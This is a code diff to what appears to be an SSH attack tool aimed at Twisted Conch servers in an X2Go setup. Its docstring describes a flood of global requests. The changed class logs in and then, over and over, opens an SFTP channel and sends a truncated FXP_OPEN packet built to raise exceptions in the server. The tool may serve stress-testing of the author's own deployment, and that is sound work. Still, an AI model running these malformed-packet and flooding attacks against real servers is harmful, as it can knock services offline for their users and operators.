@@ -19,9 +19,10 @@ Attacks:
   global requests of ever new names, with want-reply, as fast as the server
   answers, for ``--seconds``.
 * ``sftp-junk``: log in as ``--user`` with ``--password`` (an X2Go user),
-  open the ``sftp`` subsystem, say hello and send ``--count`` OPEN requests
-  that end in the middle of their file name (each one an exception in
-  Conch's SFTP server); ``replies`` counts the bytes of what came back.
+  then ``--count`` times: open the ``sftp`` subsystem, say hello, send an OPEN
+  request that ends in the middle of its file name (an exception in Conch's
+  SFTP server; a refusal of the X2Go door that closes the channel), close
+  the channel; ``sent`` counts the channels, ``replies`` the bytes that came back.
 
 The client speaks OpenSSH's delayed compression (:class:`DelayedZlib`), which
 Conch lacks; the unit tests use it too.
@@ -195,14 +196,18 @@ class SFTPJunk(channel.SSHChannel):
 
     def _send(self, _: Any) -> None:
         self.write(struct.pack(">LBL", 5, 1, 3))  # FXP_INIT, version 3
-        junk = struct.pack(">LBL", 9, 3, 7) + struct.pack(">L", 255)  # FXP_OPEN, a name of 255 bytes ... missing
-        for _ in range(self.attack.args.count):
-            self.write(junk)
-            self.attack.report.fields["sent"] += 1
-        reactor.callLater(self.attack.args.linger, self.attack.end)
+        self.write(struct.pack(">LBL", 9, 3, 7) + struct.pack(">L", 255))  # FXP_OPEN, a name of 255 bytes ... missing
+        self.attack.report.fields["sent"] += 1
+        self.loseConnection()
 
     def dataReceived(self, data: bytes) -> None:
         self.attack.report.fields["replies"] += len(data)
+
+    def closed(self) -> None:
+        if self.attack.report.fields["sent"] < self.attack.args.count:
+            self.conn.openChannel(SFTPJunk(self.attack))
+        else:
+            reactor.callLater(self.attack.args.linger, self.attack.end)
 
 
 class Attack:
